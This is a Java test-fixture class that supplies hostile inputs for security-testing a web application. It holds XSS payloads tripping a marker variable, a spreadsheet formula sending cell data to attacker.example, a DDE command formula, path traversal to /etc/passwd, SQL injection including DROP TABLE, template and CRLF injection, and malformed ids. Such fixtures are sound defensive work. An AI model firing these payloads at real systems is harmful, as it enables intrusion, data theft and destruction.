package jp.madoguchi.hostile;

import java.util.ArrayList;
import java.util.List;

/** What somebody types who wants to get in, or to break something. */
public final class Payloads {
    /** What a script would leave behind in the page if it ran. */
    public static final String TRIPWIRE = "__pwned";

    private static final String RUN = "window." + TRIPWIRE + "=1";

    private static final List<String> SCRIPTS = List.of(
            "<script>" + RUN + "</script>",
            "\"><img src=x onerror=" + RUN + ">",
            "'><svg/onload=" + RUN + ">",
            "<iframe srcdoc=\"<script>parent." + TRIPWIRE + "=1</script>\"></iframe>",
            "javascript:" + RUN,
            "</textarea><script>" + RUN + "</script>",
            "<a href=\"javascript:" + RUN + "\">押す</a>",
            "<details open ontoggle=" + RUN + ">");

    private static final List<String> OTHERS = List.of(
            "=HYPERLINK(\"http://attacker.example/?\"&A1,\"見る\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "' or '1'='1' -- ",
            "\"; drop table inquiry; --",
            "1 union select null, null, null",
            "${7*7}",
            "{{7*7}}",
            "#{7*7}",
            "%n%n%s%x",
            "{0} {1} '{",
            "[[${T(java.lang.Runtime).getRuntime()}]]",
            "\u202E正しい\u200B\u2066名\u0000前",
            "𠮷\uD83D\uDE00\u0301\u0301\u0301",
            "a\r\nSet-Cookie: x=1\r\n\r\n<b>",
            "NaN",
            "-1",
            "9223372036854775808",
            "",
            "　 \t ");

    private Payloads() {}

    public static List<String> scripts() {
        return SCRIPTS;
    }

    /** Scripts, formulas, paths, SQL, templates, odd characters. */
    public static List<String> texts() {
        List<String> all = new ArrayList<>(SCRIPTS);
        all.addAll(OTHERS);
        return all;
    }

    /** Those and a text of a million characters. */
    public static List<String> withTheLongest() {
        List<String> all = new ArrayList<>(texts());
        all.add("窓".repeat(1_000_000));
        return all;
    }

    /** What stands where an id belongs, as it is written into an address. */
    public static List<String> ids() {
        return List.of(
                "0",
                "-1",
                "1",
                "9223372036854775807",
                "9223372036854775808",
                "abc",
                "１２３",
                "1e3",
                "0x1",
                "1;2",
                "..%2F..%2Fetc%2Fpasswd",
                "%2e%2e%2f",
                "%00",
                "1%00",
                "%0d%0aSet-Cookie:%20x=1",
                "1%20or%201=1",
                "%27%20or%20%271%27=%271",
                "$%7B7*7%7D",
                "%7B%7B7*7%7D%7D",
                "%23%7B7*7%7D",
                "%3Cscript%3Ewindow." + TRIPWIRE + "%3D1%3C%2Fscript%3E",
                "%3DHYPERLINK(1)",
                "%E2%80%AE1",
                "%ff%fe",
                "1".repeat(5_000));
    }
}
